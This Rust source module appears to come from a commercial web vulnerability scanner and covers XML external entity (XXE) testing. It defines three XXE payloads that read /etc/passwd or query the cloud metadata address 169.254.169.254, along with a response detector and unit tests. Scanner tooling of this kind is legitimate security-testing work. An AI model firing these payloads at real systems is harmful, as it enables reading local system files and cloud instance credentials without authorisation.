// Copyright (c) 2026 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

/**
 * Bountyy Oy - XXE Attack Class
 * External entity DTDs referencing local files and cloud metadata.
 * Only attempted on POST endpoints, sent as application/xml.
 *
 * @copyright 2026 Bountyy Oy
 * @license Proprietary
 */

use super::Detection;

pub const CONTENT_TYPE: &str = "application/xml";

pub const PAYLOADS: &[&str] = &[
    "<?xml version=\"1.0\"?><!DOCTYPE root [<!ENTITY test SYSTEM \"file:///etc/passwd\">]><root>&test;</root>",
    "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
    "<?xml version=\"1.0\"?><!DOCTYPE root [<!ENTITY test SYSTEM \"http://169.254.169.254/\">]><root>&test;</root>",
];

/// Entity expansion markers: local passwd content or cloud metadata keys
const EXPANSION_MARKERS: &[&str] = &["root:", "ami-id"];

pub fn detect(body: &str) -> Option<Detection> {
    for marker in EXPANSION_MARKERS {
        if body.contains(marker) {
            return Some(Detection {
                technique: "External entity expansion",
                evidence: format!("External entity processed: {}", marker),
                confidence: 90,
                literal: true,
            });
        }
    }

    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_passwd_expansion() {
        let body = "<result>root:x:0:0:root:/root:/bin/bash</result>";
        assert!(detect(body).is_some());
    }

    #[test]
    fn test_cloud_metadata_expansion() {
        let body = "<result>ami-id ami-0abcdef</result>";
        assert!(detect(body).is_some());
    }

    #[test]
    fn test_clean_xml_is_benign() {
        assert!(detect("<result>ok</result>").is_none());
    }

    #[test]
    fn test_payloads_reference_file_and_metadata() {
        assert!(PAYLOADS.iter().any(|p| p.contains("file:///etc/passwd")));
        assert!(PAYLOADS.iter().any(|p| p.contains("169.254.169.254")));
    }
}
